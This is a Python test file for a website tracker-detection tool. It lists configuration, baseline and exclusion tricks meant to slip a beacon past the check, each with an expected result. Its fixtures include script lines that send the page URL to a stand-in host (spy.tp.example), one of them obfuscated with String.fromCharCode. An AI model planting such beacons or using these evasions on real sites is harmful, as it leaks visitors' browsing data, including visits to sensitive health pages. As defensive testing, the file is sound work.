"""Tries by those who may change the configuration, the baseline or the lock file."""

import json
from collections.abc import Iterator
from datetime import UTC, datetime

from tests.hostile.one_try import BASE, LEAK, QUIET, SAID, Try

_UNNAMED = 'site = "site"\nstates = ["no-choice"]\n'
_SPY = f"{QUIET}<script>new Image().src = 'https://spy.tp.example/b?' + location.href</script>"
_HOTJAR = f"{QUIET}<script src='https://static.hotjar.com/c/hotjar-1234567.js?sv=6'></script>"
_GTM = f"{QUIET}<script async src='https://www.googletagmanager.com/gtm.js?id=GTM-ABC1234'></script>"
_CONTAINER = (
    'var data = {"resource":{"version":"1","macros":[],"tags":[],"predicates":[],"rules":[]},"runtime":[]};'
    "/* GTM-ABC1234 */"
)
_EMPTY_SHA256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
_ALLOWED = "".join(
    f'[[allow]]\nrule = "{rule}"\nvendor = "meta-pixel"\nstatement = "s"\nowner = "o"\nexpires = {{expires}}\n'
    for rule in ("PXG101", "PXG104", "PXG201", "PXG209")
)
_KNOWN = (("baseline", "-q"),)


def allowing() -> Iterator[Try]:
    """Yield ways to call a tracker allowed, or the site's own."""
    later, past = f"{datetime.now(tz=UTC).year + 1}-01-31", "2020-01-31"
    yield Try(
        what="calls Meta's hosts its own: `first_party`",
        code=1,
        note="its signature counts on own hosts too",
        configuration=BASE + 'first_party = ["connect.facebook.net", "www.facebook.com"]\n',
    )
    yield Try(
        what="calls an unknown receiver its own: `first_party`",
        code=0,
        text=_SPY,
        note=SAID,
        told="the site\\u2019s own: spy.tp.example",
        configuration=BASE + 'first_party = ["spy.tp.example"]\n',
    )
    yield Try(what="calls every host its own", code=2, configuration=BASE + 'first_party = ["*"]\n')
    yield Try(
        what="calls every host of a top-level domain its own",
        code=2,
        configuration=BASE + 'first_party = ["*.example"]\n',
    )
    yield Try(
        what="gives the receiver as the site's own address: `origin`",
        code=0,
        text=_SPY,
        configuration=_UNNAMED + 'origin = "https://spy.tp.example"\n',
        note=f"{SAID}: in the line `site`",
        told='"origin": "https://spy.tp.example"',
    )
    yield Try(
        what="names the receiver in the build's own `CNAME`, where no `origin` is configured",
        code=0,
        text=_SPY.replace("tp.example", "example.com"),
        configuration=_UNNAMED,
        files={"site/CNAME": "spy.example.com\n"},
        note=f"{SAID}. Configure `origin`, and nothing is inferred",
        told="own host spy.example.com, from CNAME",
    )
    yield Try(
        what="names Meta's host in the build's own `CNAME`",
        code=1,
        configuration=_UNNAMED,
        files={"site/CNAME": "connect.facebook.net\n"},
        note="a host that a vendor uses is never inferred",
    )
    yield Try(
        what="allows it until next year",
        code=0,
        configuration=BASE + _ALLOWED.format(expires=later),
        note=f"{SAID}, with statement and owner",
        told='"owner": "o"',
    )
    yield Try(
        what='allows every host: `host = "*"`',
        code=2,
        configuration=BASE + _ALLOWED.format(expires=later).replace('vendor = "meta-pixel"', 'host = "*"'),
    )
    yield Try(
        what="allows it, on a page about a condition",
        code=1,
        configuration=BASE + _ALLOWED.format(expires=later),
        page="hiv.html",
        note="no allowance covers a sensitive page unless it says so",
    )
    yield Try(what="allows it until a day that has passed", code=1, configuration=BASE + _ALLOWED.format(expires=past))
    yield Try(what="allows it for ever", code=2, configuration=BASE + _ALLOWED.format(expires="2099-01-31"))


def knowing() -> Iterator[Try]:
    """Yield ways to call it known."""
    yield Try(
        what="records a baseline that covers everything",
        code=0,
        before=_KNOWN,
        note=f"{SAID}: how many it holds, and what it hides",
        told="the baseline pixelguard-baseline.json holds",
    )
    yield Try(
        what="records one, of a page about a condition",
        code=1,
        before=_KNOWN,
        page="hiv.html",
        note="a baseline hides nothing on a sensitive page",
    )
    yield Try(what="records one, and adds another tracker", code=1, before=_KNOWN, later={"site/news.html": _HOTJAR})
    yield Try(
        what="records one, and loads the known tracker on one page more",
        code=1,
        before=_KNOWN,
        later={"site/more.html": LEAK},
    )
    yield Try(
        what="writes patterns into a baseline",
        code=2,
        note="an entry is one fingerprint",
        files={"pixelguard-baseline.json": json.dumps({"findings": [{"fingerprint": "*"}]})},
    )
    yield Try(
        what="plants a baseline inside the site",
        code=1,
        note="it lies beside the configuration, or counts not",
        before=_KNOWN,
        links={"site/pixelguard-baseline.json": "../pixelguard-baseline.json"},
        configuration=BASE + 'baseline = "none.json"\n',
        later={"none.json": '{"findings": []}'},
    )
    yield Try(
        what="locks it: `pixelguard lock`, or an edited lock file",
        code=1,
        before=(("lock",),),
        note="a lock says what may be loaded, and excuses no beacon",
    )


def excluding() -> Iterator[Try]:
    """Yield ways not to look at it."""
    quiet = {"site/index.html": QUIET}
    yield Try(
        what="excludes every file",
        code=3,
        configuration=BASE + '[static]\nexclude = ["*"]\n',
        arguments=("inspect", "site"),
        note="nothing inspected is no pass",
    )
    yield Try(
        what="excludes every route",
        code=3,
        configuration=BASE + '[routes]\nexclude = ["*"]\n',
        arguments=("crawl",),
        note="nothing crawled is no pass",
    )
    yield Try(
        what="excludes the page alone, as a file and as a route",
        code=0,
        files=quiet,
        note=SAID,
        told="1 file neither read nor opened, 1 of them pages, 0 sensitive: static.exclude",
        configuration=BASE + '[static]\nexclude = ["news.html"]\n[routes]\nexclude = ["/news.html"]\n',
    )
    yield Try(
        what="excludes a page about a condition so",
        code=0,
        files=quiet,
        page="hiv.html",
        note=f"{SAID}, and that it is sensitive",
        told="1 file neither read nor opened, 1 of them pages, 1 sensitive: static.exclude",
        configuration=BASE + '[static]\nexclude = ["hiv.html"]\n',
    )
    yield Try(
        what="crawls one other page alone: `routes.paths`, `--route`",
        code=0,
        files=quiet,
        note=SAID,
        arguments=("crawl", "--route", "/"),
        told="1 page not opened, for routes.paths or --route names others",
    )
    yield Try(
        what="crawls no state at all", code=3, configuration=BASE.replace('"no-choice"', ""), arguments=("crawl",)
    )
    yield Try(
        what="crawls only as a visitor who has accepted",
        code=0,
        note=SAID,
        text=_SPY,
        configuration=BASE.replace("no-choice", "accepted"),
        arguments=("crawl",),
        told="no page was opened as it is before a visitor has made a choice: states",
    )
    yield Try(
        what="reads the files, and opens no page: `inspect` in place of `check`",
        code=0,
        note=SAID,
        text=f"{QUIET}<script>{'fetch(String.fromCharCode(104)+location)'}</script>",
        arguments=("inspect", "site"),
        told="no page was opened: what pages send once they run is not known",
    )
    yield Try(
        what="puts the page into a folder that is not read: `node_modules`",
        code=0,
        files=quiet,
        page="node_modules/a.html",
        note=SAID,
        told="as a tool\\u2019s own store: site/node_modules",
    )
    yield Try(
        what="puts it into the site's own `pixelguard-report`",
        code=0,
        files=quiet,
        page="pixelguard-report/a.html",
        note=SAID,
        told="as a tool\\u2019s own store: site/pixelguard-report",
    )


def replacing() -> Iterator[Try]:
    """Yield ways to let something else be looked at."""
    yield Try(
        what="supplies an empty container in place of the live one",
        code=1,
        text=_GTM,
        note="to load it before a choice is a finding, and it is said whose copy was read",
        files={"gtm.js": _CONTAINER},
        told="containers are judged by the team\\u2019s own copies: GTM-ABC1234",
        configuration=BASE + '[[container]]\nid = "GTM-ABC1234"\nfile = "gtm.js"\n',
    )
    yield Try(
        what="supplies an empty recording in place of Meta's script",
        code=1,
        files={"empty.js": ""},
        note="its loader is a finding",
        configuration=f'{BASE}[[replay]]\nfile = "empty.js"\nsha256 = "{_EMPTY_SHA256}"\n'
        'url = "https://connect.facebook.net/en_US/fbevents.js"\n',
    )
    yield Try(
        what="supplies a recording with another content than its hash says",
        code=2,
        files={"empty.js": "fbq()"},
        configuration=f'{BASE}[[replay]]\nfile = "empty.js"\n'
        f'sha256 = "{_EMPTY_SHA256}"\nurl = "https://connect.facebook.net/en_US/fbevents.js"\n',
    )
    yield Try(
        what="brings knowledge of vendors of its own",
        code=2,
        configuration=BASE + 'vendors = ["own.toml"]\n',
        note="there is no such key: what is a tracker is not configured",
    )
